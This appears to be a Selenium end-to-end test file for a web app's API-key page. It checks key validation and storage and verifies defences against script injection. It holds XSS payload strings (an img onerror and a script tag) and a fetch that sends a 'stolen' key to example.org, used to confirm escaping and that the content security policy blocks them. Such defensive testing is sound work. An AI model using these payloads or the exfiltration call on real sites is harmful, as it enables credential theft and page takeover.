"""The page: API keys, and protection against script injection."""

import pytest
from selenium.webdriver.common.by import By

from local.providers.acedata import Behaviour, Refusal
from local.stack import Stack
from tests.e2e.browser import Page, behave, needs_browser

pytestmark = [needs_browser, pytest.mark.exhaustive]


@pytest.mark.parametrize(("key", "reason"), [("wrong", "valid API key"), ("\u00f6", "no spaces"), ("", "no spaces")])
def test_invalid_key_is_refused_and_not_stored(page: Page, key: str, reason: str) -> None:
    page.open()
    page.enter(key)
    page.wait(lambda: reason in page["key-error"].text)
    assert page.focused == "key"
    assert not page["composer"].is_displayed()
    assert page.run("return localStorage.length + sessionStorage.length") == 0


def test_key_is_stored_for_the_browser_or_for_the_session(page: Page) -> None:
    page.open("page-key")
    assert page.run("return [Object.values(localStorage), sessionStorage.length]") == [["page-key"], 0]
    page.driver.get(f"{page.url}/")
    page.wait(page["composer"].is_displayed)
    page["change-key"].click()
    page["forget"].click()
    page.wait(lambda: page["key"].is_displayed() and not page["composer"].is_displayed())

    page["remember"].click()
    page.enter("page-key")
    page.wait(page["composer"].is_displayed)
    assert page.run("return [localStorage.length, Object.values(sessionStorage)]") == [0, ["page-key"]]


def test_stored_key_that_is_no_longer_valid_is_requested_again(page: Page) -> None:
    page.open("page-key")
    page.run("localStorage.setItem('fluxgate.key', 'withdrawn')")
    page.driver.get(f"{page.url}/")
    page.wait(lambda: "valid API key" in page["key-error"].text)


def test_another_key_shows_another_gallery(page: Page, gallery: list[str]) -> None:
    page.open("gallery-key")
    page.card(gallery[0])
    page["change-key"].click()
    page.enter("empty-key")
    page.wait(page["empty"].is_displayed)
    assert page.all("#gallery > li") == []


HTML = """<img src=x onerror="window.hacked=1"><script>window.hacked=1</script><b>bold</b>"""


def test_html_in_prompts_and_errors_is_shown_as_text(stack: Stack, page: Page) -> None:
    behave(stack, HTML, Behaviour(refusal=Refusal(403, "forbidden", f"Not with {HTML}")))
    page.open("page-key")
    page.generate(HTML)
    card = page.card(HTML)
    page.wait(lambda: page.text(card, ".state strong") == "Failed")
    assert f"Not with {HTML}" in page.text(card, ".state")
    assert card.find_elements(By.CSS_SELECTOR, "img, script, b") == []
    page.driver.get(f"{page.url}/")
    page.card(HTML)
    assert page.run("return window.hacked") is None


def test_content_security_policy_blocks_html_scripts_and_other_hosts(page: Page) -> None:
    page.open()
    for script in (
        "document.body.innerHTML = '<b></b>'",
        "document.createElement('script').textContent = 'hacked = 1'",
    ):
        assert "Trusted" in page.run(f"try {{ {script} }} catch (error) {{ return error.message }}")
    blocked = """
        const done = arguments[0];
        document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective), {once: true});
        fetch("https://example.org/?key=stolen").catch(() => {});
    """
    assert page.driver.execute_async_script(blocked) == "connect-src"
    page.driver.get_log("browser")  # type: ignore[no-untyped-call] # the violations above are expected
